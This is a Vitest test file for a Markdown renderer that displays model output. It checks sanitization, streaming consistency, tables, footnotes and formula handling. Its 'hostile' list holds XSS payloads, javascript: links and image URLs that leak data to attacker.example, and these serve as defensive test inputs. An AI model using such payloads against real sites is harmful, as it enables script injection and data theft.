/** What a model writes becomes text, never a program, and never a request. */

import { describe, expect, test, vi } from "vitest";
import { type Block, htmlOf } from "../src/views/markdown/blocks";
import { blockParser } from "../src/views/markdown/parse";
import { blockRenderer } from "../src/views/markdown/render";
import { sanitize } from "../src/views/markdown/sanitize";

// As it is, and its calls can be counted.
vi.mock("../src/views/markdown/sanitize", { spy: true });

const render = (text: string, references: { marker: number; title: string }[] = []) => {
  const root = document.createElement("div");
  root.innerHTML = blockRenderer()(text, references, "")
    .map(htmlOf)
    .join("");
  return root;
};

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form action=//attacker.example><button>go</button></form>",
  "<p style='background:url(//attacker.example)'>x</p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:alert(1))",
  "[x](//attacker.example/protocol-relative)",
  "[x](/api/chats)",
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
  "![x](javascript:alert(1))",
  "![x](https://attacker.example/leak?d=secret)",
  "![x][r]\n\n[r]: https://attacker.example/leak",
  '![x" onerror="alert(1)](https://attacker.example/x)',
  "<https://attacker.example/auto>",
  "<javascript:alert(1)>",
  "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "# <img src=x onerror=alert(1)>",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "<!--><script>alert(1)</script>-->",
  "<div data-marker='1' class='chip'>1</div>",
  '<button data-marker="1">1</button>',
  "\u0000<scr\u0000ipt>alert(1)</script>",
];
const allowed =
  "a b blockquote br button caption code del details div em h3 h4 h5 h6 hr i ins kbd li mark ol p pre s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var";

function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    expect(allowed.split(" ")).toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src|^srcdoc$|^action$|^formaction$/);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
    }
    if (element.localName === "a") {
      expect(element.getAttribute("rel")).toContain("noopener noreferrer");
      expect(element.getAttribute("target")).toBe("_blank");
    }
  }
}

describe("hostile text", () => {
  test.each(hostile)("%s", (text) => {
    for (const wrapped of [text, `before ${text} after`, `> ${text}`, `- ${text}`, `${text}\n\n${text}`]) {
      const root = render(wrapped);
      expectHarmless(root);
      expect(root.querySelector("[data-marker]")).toBeNull();
    }
  });

  test.each(hostile)("cut anywhere, as it streams: %s", (text) => {
    for (let end = 1; end <= text.length; end++) expectHarmless(render(text.slice(0, end)));
  });

  test.each(hostile)("as the title of a source: %s", (title) => {
    const chip = render("[1]", [{ marker: 1, title }]).querySelectorAll("*");
    expect([...chip].map(({ localName }) => localName)).toEqual(["p", "button"]);
  });
});

test.each(hostile)("the sanitizer alone lets nothing through: %s", (html) => {
  const root = document.createElement("div");
  root.innerHTML = sanitize(html);
  expectHarmless(root);
});

test("a link says where it goes", () => {
  const link = render("[here](https://a.example/?b=1&c=2)").querySelector("a");
  expect(link?.getAttribute("title")).toBe("https://a.example/?b=1&c=2");
});

test("an image is a link with its whole address to be read", () => {
  const link = render("![a cat](https://attacker.example/cat.png?d=1)").querySelector("a");
  expect(link?.textContent).toBe("a cat: https://attacker.example/cat.png?d=1");
});

test("a link that names another host shows where it goes", () => {
  expect(render("[https://bank.example](https://evil.example/login)").textContent?.trim()).toBe("https://evil.example/login");
  expect(render("[bank.example](https://bank.example/help)").textContent?.trim()).toBe("bank.example");
});

describe("markers", () => {
  const known = [{ marker: 1, title: "One" }, { marker: 12, title: "Twelve" }];

  test("become chips only where a citation was sent", () => {
    const root = render("a [1] b [2] c [12][1]", known);
    expect([...root.querySelectorAll("button")].map(({ dataset }) => dataset.marker)).toEqual(["1", "12", "1"]);
    expect(root.textContent).toContain("b [2] c");
  });

  test("stay what they are in code, and can't be turned into links", () => {
    expect(render("`x[1]`", known).querySelector("button")).toBeNull();
    const root = render("see [3]\n\n[3]: https://attacker.example", known);
    expect(root.querySelector("a")).toBeNull();
    expect(root.textContent).toContain("[3]");
  });

  test("that come after the text was shown are chips then", () => {
    const blocks = blockRenderer();
    expect(blocks("a [1]", [], "")[0]?.html).not.toContain("button");
    expect(blocks("a [1]", known, "")[0]?.html).toContain("button");
  });
});

test("headings never skip a level, whatever the model wrote", () => {
  const root = render("# a\n\n#### b\n\n###### c\n\n## d\n\n##### e\n\n# f");
  expect([...root.children].map(({ localName }) => localName)).toEqual(["h3", "h4", "h5", "h4", "h5", "h3"]);
});

test("blocks that did not change are the same, block for block", () => {
  const blocks = blockRenderer();
  const before = blocks("# One\n\nTwo **bold**\n\n```js\nlet", [], "");
  const after = blocks("# One\n\nTwo **bold**\n\n```js\nlet x = 1", [], "");
  expect(after.map(({ key }) => key)).toEqual(before.map(({ key }) => key));
  expect(after.slice(0, 2)).toEqual(before.slice(0, 2));
  expect(after[2] && htmlOf(after[2])).toContain("let x = 1");
});

describe("what was written is what is shown", () => {
  test.each([
    ["one tilde is no strike", "5~7U × 100~200倍", "5~7U × 100~200倍"],
    ["a formula in brackets", "so \\(x_1 * y_2 * z\\) and \\[a_b\\] hold", "so \\(x_1 * y_2 * z\\) and \\[a_b\\] hold"],
    ["a formula in dollars", "with $a_1 * b_2 * c_3$ and $$p_q_r$$.", "with $a_1 * b_2 * c_3$ and $$p_q_r$$."],
    ["money", "from $5 to $10, or *A$7*", "from $5 to $10, or A$7"],
    ["a formula over lines", "$$\n- a_1\n= b_2\n$$\n\nnext", "$$\n- a_1\n= b_2\n$$next"],
    ["a formula of whole lines in a list", "- x\n\n  \\[\n  + a_1 _b_\n  \\]", "\nx\n\\[\n+ a_1 _b_\n\\]\n"],
    ["an address without a web's scheme", "[x](javascript:alert(1)) [y](/api/chats)", "[x](javascript:alert(1)) [y](/api/chats)"],
    ["HTML that is none of the few", "a <font color=red>red</font> claim", "a <font color=red>red</font> claim"],
    ["a tag with an attribute", 'a <sup class="x">2</sup>', 'a <sup class="x">2</sup>'],
    ["a formula environment", "\\begin{align*}\na_1 &= b_2\n\\end{align*}", "\\begin{align*}\na_1 &= b_2\n\\end{align*}"],
    ["cases", "\\begin{cases} a_1 \\\\ b_2 \\end{cases}", "\\begin{cases} a_1 \\\\ b_2 \\end{cases}"],
    ["a marker that names nothing", "Take a[9] of arr[0].", "Take a[9] of arr[0]."],
  ])("%s", (_, text, shown) => {
    const root = render(text);
    expect(root.textContent?.trim()).toBe(shown.trim());
    expect(root.querySelector("em, s, h3, h4, li > ul")).toBe(text.includes("*A$7*") ? root.querySelector("em") : null);
  });

  test.each([
    ["**注意:**请不要重启", "注意:"],
    ["请看**“说明”**一节", "“说明”"],
    ["これは**重要。**です", "重要。"],
    ["이것은 **중요(매우)**하다", "중요(매우)"],
  ])("the right words are bold beside marks of Chinese, Japanese and Korean: %s", (text, bold) => {
    expect([...render(text).querySelectorAll("strong")].map(({ textContent }) => textContent)).toEqual([bold]);
  });

  test("tables, tasks, code, strikes and bare addresses are still made", () => {
    const root = render("| a | b |\n|--:|:-:|\n| 1 | ~~2~~ |\n\n- [x] done\n- [ ] open\n\nhttps://a.example/x。\n\n    indented");
    expect([...root.querySelectorAll("td")].map((one) => one.getAttribute("align"))).toEqual(["right", "center"]);
    expect(root.querySelector("s")?.textContent).toBe("2");
    expect([...root.querySelectorAll("li")].map(({ textContent }) => textContent?.trim())).toEqual(["☑ done", "☐ open"]);
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://a.example/x");
    expect(root.querySelector("pre")?.textContent).toBe("indented");
  });
});

describe("a text that would break a parser is shown as it was written", () => {
  const deep: [string, string][] = [
    ["quotes", `${">".repeat(2000)} x`],
    ["lists", `${"- ".repeat(3000)}x`],
    ["numbered lists", `${"1. ".repeat(3000)}x`],
    ["stars", `${"*".repeat(4000)}x${"*".repeat(4000)}`],
    ["stars and words", `${"**a ".repeat(3000)}${"b** ".repeat(3000)}`],
    ["brackets", `${"[".repeat(5000)}x${"](https://a.example)".repeat(500)}`],
    ["quotes in lists", `${"> - ".repeat(1500)}x`],
  ];
  test.each(deep)("%s", (_, text) => {
    const blocks = blockRenderer()(`before\n\n${text}\n\nafter **it**`, [], "");
    expect(blocks[0]?.html).toBe("<p>before</p>\n");
    expect(htmlOf(blocks.at(-1) as Block).includes("after")).toBe(true);
    const root = document.createElement("div");
    root.innerHTML = blocks.map(htmlOf).join("");
    const letters = (shown: string) => shown.replace(/[^a-z]/g, "");
    const words = letters(text.replaceAll("(https://a.example)", ""));
    expect(letters(root.textContent ?? "").includes(words)).toBe(true);
    let depth = 0;
    for (let node: Element | null = root; node; node = node.lastElementChild) depth += 1;
    expect(depth).toBeLessThan(100);
  });

  test.each(["$a ", "\\( ", "`", "``a ", "[", "![", "<", "_a ", "**a", "~~", "&", "\\", "| a ", "[a](", "[a]: b\n", "\n> ", "* a\n"])(
    "a hundred thousand characters of %j",
    (piece) => {
      const text = piece.repeat(100_000 / piece.length);
      expect(blockRenderer()(text, [], "").length).toBeGreaterThan(0);
    },
    60_000, // where a rule is quadratic it takes minutes
  );
});

describe("streamed and stored are the same", () => {
  const growing = [
    "See [the manual][m] and [m].\n\nMore.\n\n[m]: https://docs.example/very/long/path?q=1 'Title'\n",
    "[a]: https://one.example\n\n[a] and [b]\n\n[b]: https://two.example/x\n\n[b]: https://three.example",
    "Cited [1] and [2][1], code `[1]` and\n\n```py\nx = a[1]\n```\n\n| a | b |\n|---|---|\n| [1] | x |\n",
    "# One\n\n### Two\n\n- a\n  - b\n\n    c\n\n1. d\n\nSetext\n===\n\n> q\nlazy\n\n\\[\na_1\n\\]\n",
    "line\r\nline two\r\n\r\n* x\r\n* y\0z",
  ];
  const known = [{ marker: 1, title: "One" }];
  const shown = (blocks: Block[]) => blocks.map(htmlOf).join("");
  test.each(growing)("%j", (text) => {
    const streamed = blockRenderer();
    const whileItGrows = blockRenderer();
    for (let end = 1; end <= text.length; end += 3) {
      const part = text.slice(0, end);
      const references = end > text.length / 2 ? known : [];
      const stored = blockRenderer()(part, references, "");
      expect(streamed(part, references, "")).toEqual(stored);
      expect(shown(whileItGrows(part, references, "", true))).toBe(shown(stored));
      if (end % 5 === 0) expect(whileItGrows(part, references, "", false)).toEqual(stored);
    }
  }, 60_000);
});

describe("tags that models write for want of Markdown", () => {
  test("breaks, sub- and superscripts and keys", () => {
    const root = render("H<sub>2</sub>O<br>x<sup>2</sup><br/>press <kbd>Ctrl</kbd>+<kbd>C</kbd>");
    expect(root.querySelector("sub")?.textContent).toBe("2");
    expect(root.querySelector("sup")?.textContent).toBe("2");
    expect([...root.querySelectorAll("kbd")].map(({ textContent }) => textContent)).toEqual(["Ctrl", "C"]);
    expect(root.querySelectorAll("br")).toHaveLength(2);
    expect([...render("| a |\n|---|\n| x<br>y |").querySelectorAll("td br")]).toHaveLength(1);
  });

  test("details open, with Markdown and other details in them", () => {
    const inner = "<details><summary>In</summary>\n\ndeep\n\n</details>";
    const text = `<details>\n<summary>More **of it**</summary>\n\n- a\n- b\n\n${inner}\n\n</details>\n\nafter`;
    const root = render(text);
    const [outer, nested] = root.querySelectorAll("details");
    expect(outer?.querySelector("summary")?.innerHTML).toBe("More <strong>of it</strong>");
    expect(outer?.querySelectorAll("li")).toHaveLength(2);
    expect(nested?.querySelector("summary")?.textContent).toBe("In");
    expect(outer?.contains(nested as Element)).toBe(true);
    expect(root.lastElementChild?.textContent).toBe("after");
    const line = render("<details><summary>S</summary>all on *one* line</details>\n\nafter");
    expect(line.querySelector("details p")?.innerHTML).toBe("all on <em>one</em> line");
    expect(line.lastElementChild?.textContent).toBe("after");
    expect(render("<details open>\n<summary>x</summary>\nstill grow").querySelector("details[open]")).not.toBeNull();
  });

  test("in code they stay what they are", () => {
    expect(render("`a<br>b` and\n\n```\n<sub>x</sub>\n```").querySelector("br, sub")).toBeNull();
  });
});

test("footnotes are numbered as the text comes to them, whatever they are called", () => {
  const root = render("One[^b], two[^a], again[^b], none[^c].\n\n[^a]: The *first* note\n  goes on\n[^b]: The second");
  expect([...root.querySelectorAll("sup button")].map(({ textContent }) => textContent)).toEqual(["1", "2", "1"]);
  expect([...root.querySelectorAll(".footnote")].map(({ textContent }) => textContent?.trim().replace(/\s+/g, " "))).toEqual([
    "2The first note goes on",
    "1The second",
  ]);
  expect(root.textContent).toContain("none[^c]");
});

describe("tables in HTML", () => {
  const rows = (root: Element | null) =>
    [...(root?.querySelectorAll(":scope > tbody > tr, :scope > thead > tr, :scope > tr") ?? [])].map((row) =>
      [...row.children].map((one) => one.textContent?.trim()),
    );

  test("cells hold Markdown, lists and tables of their own", () => {
    const root = render(
      "Before\n<table>\n  <thead><tr><th>A</th><th align=right>B</th></tr></thead>\n  <tbody>\n    <tr>\n      <td>\n\n" +
        "- *one*\n- two\n\n      </td>\n      <td><table><tr><td>in **it**</td></tr></table></td>\n    </tr>\n" +
        "  </tbody>\n</table>\nafter **it**",
    );
    const [outer, inner] = root.querySelectorAll("table");
    expect(outer?.querySelectorAll("li")).toHaveLength(2);
    expect(outer?.querySelector("li em")?.textContent).toBe("one");
    expect(outer?.querySelector("th[align=right]")?.textContent).toBe("B");
    expect(rows(inner ?? null)).toEqual([["in it"]]);
    expect(root.querySelectorAll("table")).toHaveLength(2);
    expect(root.querySelector("p strong")?.textContent).toBe("it");
    expect(root.textContent).not.toMatch(/<\/?t/);
    expectHarmless(root);
  });

  test("what browsers close by themselves is closed, and spans are kept within bounds", () => {
    const root = render("<table><tr><td colspan=2 rowspan='999'>a<td>b<tr><td onclick=alert(1)>c</table>");
    expect(rows(root.querySelector("table"))).toEqual([["a", "b"], ["c"]]);
    expect(root.querySelector("td")?.getAttribute("colspan")).toBe("2");
    expect(root.querySelector("[rowspan], [onclick]")).toBeNull();
  });

  test.each(["<table><tr><td>a", "<table><tr", "</td></tr></table>", "<table></table></table>x", "<table>loose</table>"])(
    "half a table keeps its words: %s",
    (text) => {
      const root = render(text);
      for (const word of ["a", "x", "loose"])
        if (text.replace(/<[^>]*>?/g, "").includes(word)) expect(root.textContent).toContain(word);
      expectHarmless(root);
    },
  );

  test("many open tables cost no more than their length", () => {
    expectHarmless(render("<table><tr><td>".repeat(1500)));
    expectHarmless(render("<table>\n".repeat(3000)));
  });
});

test("a footnote keeps its indented paragraphs and its code", () => {
  const root = render("A[^1].\n\n[^1]: First.\n\n    Second\n    *line*\n\n    ```\n    code\n    ```\n\nAfter.");
  const note = root.querySelector(".footnote-text");
  expect([...(note?.querySelectorAll("p") ?? [])].map(({ textContent }) => textContent)).toEqual(["First.", "Second\nline"]);
  expect(note?.querySelector("pre")?.textContent).toBe("code");
  expect(root.lastElementChild?.textContent).toBe("After.");
});

describe("dollars", () => {
  test.each([
    ["$HOME/$USER and `$x`", []],
    ["the $n$th of $k$s", ["$n$", "$k$"]],
    ["$5 and $6", []],
    ["> [Footnote 1: \\$x\\$ of \\$y\\$\\] \\\\[z\\\\\\] [1]", []], // as quotes are written
  ])("%s", (text, formulas) => {
    expect([...render(text).querySelectorAll(".formula")].map(({ textContent }) => textContent)).toEqual(formulas);
  });
});

describe("bars in the formulas of a table", () => {
  const cells = (text: string) =>
    [...render(`| a | b |\n|---|---|\n${text}`).querySelectorAll("td")].map((cell) => cell.textContent?.trim());
  test.each([
    ["| $|x|$ | y |", ["$|x|$", "y"]],
    ["| \\(P(A|B)\\) | $P(A|B)$ |", ["\\(P(A|B)\\)", "$P(A|B)$"]],
    ["| $\\|v\\|$ | `a` |", ["$|v|$", "a"]],
    ["| costs $5 | and 6$ |", ["costs $5", "and 6$"]],
    ["| $10 | $20 |", ["$10", "$20"]],
    ["| `$|x|$` | y |", ["$|x|$", "y"]],
  ])("%s", (row, told) => {
    expect(cells(row)).toEqual(told);
  });
});

describe("a row of a table keeps all that stands in it", () => {
  const rows = (text: string) =>
    [...render(text).querySelectorAll("tr")].map((row) => [...row.children].map((cell) => cell.textContent?.trim()));
  test.each([
    ["| a | b |\n|---|---|\n| x | `a|b` |", [["a", "b"], ["x", "a|b"]]],
    ["| a | b |\n|---|---|\n| `string | null` | ``x || `y` `` |", [["a", "b"], ["string | null", "x || `y`"]]],
    ["| a | b |\n|---|---|\n| ` | ` |", [["a", "b"], ["`", "`"]]],
    ["| a | b |\n|---|---|\n| 1 | 2 | 3 | 4 |", [["a", "b"], ["1", "2 | 3 | 4"]]],
    ["a | b\n---|---\n1 | 2 | 3\n4", [["a", "b"], ["1", "2 | 3"], ["4", ""]]],
    ["| `a|b` | c |\n|:--|--:|\n| 1 | 2 |", [["a|b", "c"], ["1", "2"]]],
    ["- | a | b |\n  |---|---|\n  | 1 | 2 \\| 3 | 4 |", [["a", "b"], ["1", "2 | 3 | 4"]]],
    ["> | a |\n> |---|\n> | 1 | 2 |", [["a"], ["1 | 2"]]],
  ])("%s", (text, told) => {
    expect(rows(text)).toEqual(told);
  });

  test("what is no table stays as it was written", () => {
    const text = "| a | b | c |\n|---|---|\n| 1 | 2 | 3 |";
    expect(render(text).querySelector("table")).toBeNull();
    expect(render(text).textContent).toContain("| 1 | 2 | 3 |");
    expect(render("```\n|a|b|\n|-|-|\n|1|2|3|\n```").querySelector("code")?.textContent).toContain("|1|2|3|");
  });
});

test("lists within a cell are lists", () => {
  const cell = render("| a | b |\n|---|---|\n| x | <ul><li>one</li><li>**two**</li></ul> |").querySelector("td ul");
  expect([...(cell?.children ?? [])].map(({ tagName, textContent }) => [tagName, textContent])).toEqual([
    ["LI", "one"],
    ["LI", "two"],
  ]);
  expect(render("<dl><dt>Term</dt><dd>What it is</dd></dl>").querySelector("dd")?.textContent).toBe("What it is");
});

test("alerts are named boxes", () => {
  const root = render("> [!WARNING]\n> Mind the gap\n\n> [!NOTE]\n>\n> - a\n\n> [!WHAT]\n> x");
  expect([...root.querySelectorAll(".alert strong")].map(({ textContent }) => textContent)).toEqual(["Warning", "Note"]);
  expect(root.querySelector(".is-warning")?.textContent).toContain("Mind the gap");
  expect(root.querySelector("blockquote:not(.alert)")?.textContent).toContain("[!WHAT]");
  expect(root.querySelector(".alert[dir]")).toBeNull();
  expect(render("> [!TIP]\n> (1) שלום").querySelector(".alert")?.getAttribute("dir")).toBe("rtl");
});

describe("what grows costs only what is new", () => {
  /** How many characters were parsed and made into HTML for the last pieces of a text. */
  const workOf = (text: string) => {
    const [pieces, step] = [20, 40];
    const streamed = blockRenderer();
    streamed(text.slice(0, text.length - pieces * step), [], "", true);
    const parsing = vi.spyOn(blockParser, "parse").mockClear();
    vi.mocked(sanitize).mockClear();
    for (let left = pieces - 1; left >= 0; left -= 1) streamed(text.slice(0, text.length - left * step), [], "", true);
    const length = (calls: readonly (readonly [string, ...unknown[]])[]) =>
      calls.reduce((sum, [given]) => sum + given.length, 0);
    return { parsed: length(parsing.mock.calls), made: length(vi.mocked(sanitize).mock.calls) };
  };
  const code = `\`\`\`python\n${"result = compute(value, other) # and on\n".repeat(1000)}`;
  const list = "- an **item** with `code` and some more words in it\n".repeat(1000);
  test("code", () => {
    const { made } = workOf(code);
    expect(made).toBeGreaterThan(0);
    expect(made).toBeLessThan(2 * workOf(code.slice(0, code.length / 8)).made);
  });

  test("a list", () => {
    const [whole, eighth] = [workOf(list), workOf(list.slice(0, list.length / 8))];
    expect(whole.made).toBeGreaterThan(0);
    expect(whole.made).toBeLessThan(2 * eighth.made);
    expect(whole.parsed).toBeLessThan(2 * eighth.parsed);
  });

  test("pieces that were shown stay the same", () => {
    const streamed = blockRenderer();
    const before = streamed(code.slice(0, 20_000), [], "", true)[0]?.code?.chunks ?? [];
    const after = streamed(code.slice(0, 21_000), [], "", true)[0]?.code?.chunks ?? [];
    expect(after.slice(0, before.length - 1)).toEqual(before.slice(0, -1));
    expect(before.length).toBeGreaterThan(10);
  });
});
